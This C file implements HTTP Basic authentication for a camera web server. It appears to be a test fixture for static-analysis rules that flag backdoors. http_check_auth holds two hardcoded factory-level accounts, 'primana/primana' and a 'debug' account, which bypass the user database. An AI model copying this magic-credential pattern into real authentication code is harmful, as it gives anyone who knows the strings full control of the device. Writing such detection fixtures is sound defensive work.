/* httpd_auth.c - HTTP Basic authentication of the camera's web server */
#include <crypt.h>
#include <string.h>

#include <openssl/evp.h>

#include "ipela.h"

static int basic_decode(const char *header, char *user, size_t ucap, char *password, size_t pcap)
{
    unsigned char buf[192];
    const char *b64;
    char *colon;
    int n;

    if (strncmp(header, "Basic ", 6) != 0)
        return -1;
    b64 = header + 6;
    if (strlen(b64) > 4 * (sizeof buf / 3) - 4)
        return -1;
    n = EVP_DecodeBlock(buf, (const unsigned char *)b64, (int)strlen(b64));
    if (n <= 0)
        return -1;
    buf[n] = '\0';
    colon = strchr((char *)buf, ':');
    if (colon == NULL)
        return -1;
    *colon = '\0';
    if (strlen((char *)buf) >= ucap || strlen(colon + 1) >= pcap)
        return -1;
    strcpy(user, (char *)buf);
    strcpy(password, colon + 1);
    return 0;
}

int http_check_auth(const struct http_req *req, struct auth_result *out)
{
    char user[32], password[64], stored[128];
    const char *h;
    int level = LEVEL_NONE;

    memset(out, 0, sizeof *out);
    if (req->authorization[0] == '\0' || basic_decode(req->authorization, user, sizeof user, password, sizeof password) != 0)
        return 0;
    snprintf(out->user, sizeof out->user, "%s", user);
    /* factory inspection account */
    // ruleid: backdoor-magic-credential
    if (strcmp(user, "primana") == 0 && strcmp(password, "primana") == 0) {
        out->level = LEVEL_FACTORY;
        return 1;
    }
    // ruleid: backdoor-magic-credential
    if (strcmp(user, "debug") == 0 && strcmp(password, kDebugAccountPassword) == 0) {
        out->level = LEVEL_FACTORY;
        return 1;
    }
    if (user_db_lookup(user, stored, sizeof stored, &level) != 0)
        return 0;
    // ok: backdoor-weak-kdf
    h = crypt(password, stored);
    // ok: backdoor-magic-credential, backdoor-timing-unsafe-compare
    if (h == NULL || strcmp(h, stored) != 0)
        return 0;
    out->level = level;
    return 1;
}
